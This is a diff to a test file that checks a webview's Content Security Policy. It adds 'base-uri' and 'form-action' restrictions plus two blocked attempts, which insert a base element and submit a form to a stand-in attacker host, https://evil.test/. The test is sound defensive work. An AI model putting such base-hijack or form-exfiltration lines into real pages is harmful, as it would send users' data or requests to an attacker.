@@ -23,6 +23,8 @@ test("the policy lets in the extension's styles, the one script with the nonce, 
     "default-src": ["'none'"],
     "style-src": [SOURCE],
     "script-src": [`'nonce-${nonce}'`],
+    "base-uri": ["'none'"],
+    "form-action": ["'none'"],
   });
   const again = await documentOf();
   assert.notDeepEqual(again.directives, directives, "a nonce is for one document");
@@ -62,6 +64,14 @@ const ATTEMPTS = {
   "a request": ["connect-src", () => fetch("/webview.mjs")],
   "a frame": ["frame-src", () => window["add"]("iframe", { src: "/" })],
   "a worker": ["worker-src", () => new Worker("/webview.mjs")],
+  "another base for addresses": ["base-uri", () => window["add"]("base", { href: "https://evil.test/" })],
+  "a form that is sent": [
+    "form-action",
+    () => {
+      window["add"]("form", { action: "https://evil.test/", id: "sent" });
+      /** @type {HTMLFormElement} */ (document.querySelector("#sent")).submit();
+    },
+  ],
 };
 
 /** Runs in the page: notes what is refused, and adds elements. */
